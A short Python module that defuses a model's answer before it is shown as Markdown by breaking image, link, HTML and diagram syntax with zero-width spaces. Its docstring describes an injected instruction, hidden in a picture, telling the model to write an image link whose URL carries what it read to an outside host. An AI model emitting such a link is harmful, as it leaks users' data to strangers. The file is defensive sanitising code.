"""An answer made safe to show as Markdown: nothing in it loads, runs, or links under another name.

A picture can carry text that asks the model to write `![](http://elsewhere/?what=it-read)`; showing
that would send what was read to a stranger. The page's content policy forbids it a second time.
"""

from __future__ import annotations

import re

ZERO_WIDTH = "\u200b"  # breaks the syntax and is not seen, in code as in text
_ACTIVE = re.compile(r"!(?=\[)|\](?=[(\[:])|<(?=[A-Za-z/!?])")  # pictures, links and their definitions, tags
_DIAGRAM = re.compile(r"^([ >]*(?:`{3,}|~{3,})[ \t]*)mermaid", re.MULTILINE | re.IGNORECASE)


def safe_markdown(answer: str) -> str:
    """The answer with its headings, lists, tables and code, and without pictures, links, HTML or diagrams."""
    text = _DIAGRAM.sub(r"\1text", answer)
    return _ACTIVE.sub(lambda match: match[0] + ZERO_WIDTH, text)


def as_code(text: str, language: str) -> str:
    """The text, unchanged, as one fenced block whose fence it cannot close."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{language}\n{text}\n{fence}"
